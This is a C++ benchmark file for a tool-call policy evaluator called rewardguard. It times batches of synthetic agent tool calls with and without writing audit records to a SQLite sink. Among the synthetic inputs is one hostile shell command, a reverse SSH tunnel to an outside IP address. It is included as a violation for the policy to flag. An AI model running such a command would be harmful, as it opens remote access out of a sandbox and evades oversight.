// Recording cost: the step loop at 1,000 events per step, without and with an
// audit SqliteSink, and the overhead ratio between the two.
//
//   build/bench/audit_benchmark --benchmark_min_time=2
//
// Each iteration is one training step: 1,000 envs each make one call (a mix
// of file reads and writes, shell commands and HTTP requests, some of them
// violations), evaluated in one batch; with recording, each verdict becomes a
// DecisionRecord moved into the sink's queue. Every 100 steps an episode ends
// and the sink is flushed (records durable), as a trainer would. Wall time,
// since the writer thread works beside the step loop.
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <map>
#include <string>
#include <vector>

#include "benchmark/benchmark.h"
#include "rewardguard/audit/sqlite_sink.h"
#include "rewardguard/eval/evaluator.h"

namespace rewardguard {
namespace {

constexpr int kEventsPerStep = 1000;
constexpr int kStepsPerEpisode = 100;

std::map<std::string, double>& SecondsPerStep() {
  static std::map<std::string, double> m;
  return m;
}

struct StepInputs {
  std::vector<std::string> tools, args;
  std::vector<ToolCall> calls;
  std::vector<int32_t> env_ids;
};

StepInputs MakeInputs() {
  StepInputs in;
  for (int env = 0; env < kEventsPerStep; ++env) {
    switch (env % 5) {
      case 0:
        in.tools.push_back("read_file");
        in.args.push_back("{\"path\": \"src/module" + std::to_string(env) + ".py\"}");
        break;
      case 1:
        in.tools.push_back("write_file");
        in.args.push_back("{\"path\": \"src/out" + std::to_string(env) + ".txt\", \"content\": \"x\"}");
        break;
      case 2:
        in.tools.push_back("shell");
        in.args.push_back("{\"command\": \"pytest -q tests/test_" + std::to_string(env) + ".py\"}");
        break;
      case 3:
        in.tools.push_back("shell");
        in.args.push_back(env % 50 == 3 ? "{\"command\": \"ssh -fNR 9000:localhost:22 a@203.0.113.5\"}"
                                        : "{\"command\": \"ls -la src/\"}");
        break;
      default:
        in.tools.push_back("http_get");
        in.args.push_back("{\"url\": \"https://host" + std::to_string(env) + ".example/x\"}");
    }
    in.env_ids.push_back(env);
  }
  for (int i = 0; i < kEventsPerStep; ++i) in.calls.push_back({in.tools[i], in.args[i]});
  return in;
}

void BM_StepLoop(benchmark::State& state) {
  const bool record = state.range(0) != 0;
  PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");
  Evaluator evaluator(policy, kEventsPerStep);
  StepInputs in = MakeInputs();
  std::vector<Verdict> verdicts(kEventsPerStep);
  std::vector<DecisionRecord> records(kEventsPerStep);

  std::string dir = (std::filesystem::temp_directory_path() / "rg_audit_bench_XXXXXX").string();
  if (mkdtemp(dir.data()) == nullptr) {
    state.SkipWithError("mkdtemp failed");
    return;
  }
  std::unique_ptr<SqliteSink> sink;
  if (record) {
    auto opened = SqliteSink::Open(dir + "/audit.db", RunInfo::ForPolicy("bench", *policy));
    if (!opened.ok()) {
      state.SkipWithError(std::string(opened.status().message()).c_str());
      return;
    }
    sink = std::move(*opened);
  }

  int64_t step = 0, episode = 0;
  const auto start = std::chrono::steady_clock::now();
  for (auto _ : state) {
    evaluator.EvaluateBatch(in.calls, in.env_ids, absl::MakeSpan(verdicts));
    if (record) {
      for (int i = 0; i < kEventsPerStep; ++i)
        MakeRecord(*policy, verdicts[i],
                   {.env = i, .episode = episode, .step = step, .tool = in.calls[i].tool,
                    .arguments = in.calls[i].arguments},
                   &records[i]);
      if (!sink->WriteBatch(absl::MakeSpan(records)).ok()) state.SkipWithError("write failed");
    }
    benchmark::DoNotOptimize(verdicts.data());
    if (++step == kStepsPerEpisode) {  // episode end
      step = 0;
      ++episode;
      evaluator.ResetAll();
      if (record && !sink->Flush().ok()) state.SkipWithError("flush failed");
    }
  }
  if (record && !sink->Flush().ok()) state.SkipWithError("flush failed");
  const double seconds =
      std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
  SecondsPerStep()[record ? "record" : "plain"] = seconds / static_cast<double>(state.iterations());
  state.SetItemsProcessed(state.iterations() * kEventsPerStep);
  state.SetLabel(record ? "evaluate + record to SqliteSink" : "evaluate only");
  if (sink) (void)sink->Close();
  std::filesystem::remove_all(dir);
}
BENCHMARK(BM_StepLoop)->Arg(0)->Arg(1)->Unit(benchmark::kMillisecond)->UseRealTime();

}  // namespace
}  // namespace rewardguard

int main(int argc, char** argv) {
  benchmark::Initialize(&argc, argv);
  if (benchmark::ReportUnrecognizedArguments(argc, argv)) return 1;
  benchmark::RunSpecifiedBenchmarks();
  benchmark::Shutdown();
  auto& m = rewardguard::SecondsPerStep();
  if (m.count("plain") && m.count("record")) {
    std::printf("step loop, %d events/step: %.3f ms plain, %.3f ms recording; overhead %.1f%%\n",
                rewardguard::kEventsPerStep, 1e3 * m["plain"], 1e3 * m["record"],
                100.0 * (m["record"] / m["plain"] - 1.0));
  }
  return 0;
}
